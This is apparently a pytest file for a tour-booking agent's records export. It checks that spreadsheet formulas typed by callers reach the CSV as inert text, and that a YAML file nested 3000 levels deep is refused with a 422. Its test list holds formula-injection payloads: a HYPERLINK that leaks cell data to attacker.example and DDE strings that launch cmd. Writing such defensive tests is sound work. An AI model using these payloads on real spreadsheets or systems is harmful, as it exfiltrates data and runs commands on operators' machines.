"""Hostile input is data, never a crash or a program. Values callers control — names, places,
notes, phone numbers — reach the Records CSV, which operators open in a spreadsheet, as text
(each written the way a turn's tool writes it, then exported as the Records page exports it);
a file built to exhaust the parser is a clear refusal, not a 500."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from uuid import UUID, uuid4

import pytest

from agent_core.domain import JsonDict, ToolCallRequest
from agent_core.store.base import TenantWriter
from agent_core.store.demo_data import DEMO_TENANT_ID
from agent_core.store.sqlite import SqliteStore
from dashboard.views import records_csv
from tests.conftest import add_tenant
from tests.http.conftest import RunningApi

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+SUM(A:A) Lisbon",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SqliteStore]:
    store = SqliteStore(tmp_path / "records.sqlite3")
    yield store
    store.close()


def written_by_a_tool(store: SqliteStore, tenant_id: UUID, write: object) -> None:
    turn = store.start_turn(tenant_id, None, "as a caller said it")

    def execute(writer: TenantWriter) -> JsonDict:
        assert callable(write)
        write(writer)
        return {}

    call = ToolCallRequest(f"call_{uuid4().hex}", "book_tour", "{}")
    store.run_tool_call(tenant_id, turn.conversation_id, turn.turn_id, call, execute)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_formula_a_caller_typed_reaches_the_spreadsheet_as_text(store: SqliteStore) -> None:
    tenant = add_tenant(store, "CSV Tours", "prompt").id
    for i, formula in enumerate(FORMULAS):
        written_by_a_tool(store, tenant, lambda w, f=formula, i=i: w.add_tour(f, date(2027, 3, 1 + i), f))
        written_by_a_tool(store, tenant, lambda w, f=formula: w.add_note(f))
    written_by_a_tool(store, tenant, lambda w: w.upsert_contact(FORMULAS[0], None, "+1 555 0100"))

    tours = cells("".join(records_csv([store.list_tours(tenant).rows])))
    notes = cells("".join(records_csv([store.list_notes(tenant).rows])))
    contacts = cells("".join(records_csv([store.list_contacts(tenant).rows])))

    typed = {f"'{f}" for f in FORMULAS}
    header = tours[0]
    assert {row[header.index("Customer")] for row in tours[1:]} == typed
    assert {row[header.index("Place")] for row in tours[1:]} == typed
    assert {row[notes[0].index("Note")] for row in notes[1:]} == typed
    [contact] = contacts[1:]
    assert contact[contacts[0].index("Name")] == f"'{FORMULAS[0]}"
    assert contact[contacts[0].index("Phone")] == "'+1 555 0100"


def test_ordinary_values_are_exported_unchanged(store: SqliteStore) -> None:
    tenant = add_tenant(store, "Plain Tours", "prompt").id
    written_by_a_tool(
        store, tenant, lambda w: w.add_tour("Zoë O'Neill-Smith", date(2027, 3, 15), "Paris, 5e")
    )
    [header, row] = cells("".join(records_csv([store.list_tours(tenant).rows])))
    assert row[header.index("Customer")] == "Zoë O'Neill-Smith"
    assert row[header.index("Place")] == "Paris, 5e"
    assert row[header.index("Date")] == "2027-03-15"


def test_a_scenario_file_nested_thousands_deep_is_a_422_and_stores_nothing(api: RunningApi) -> None:
    base = f"/api/tenants/{DEMO_TENANT_ID}/scenarios"
    before = api.client.get(base).json()["data"]
    deep = "scenarios: " + "[" * 3000 + "]" * 3000
    answer = api.client.post(f"{base}/import", json={"yaml": deep})
    assert answer.status_code == 422, answer.text
    assert answer.json()["error"]["message"] == "invalid scenario file — nested deeper than 40 levels"
    assert api.client.get(base).json()["data"] == before
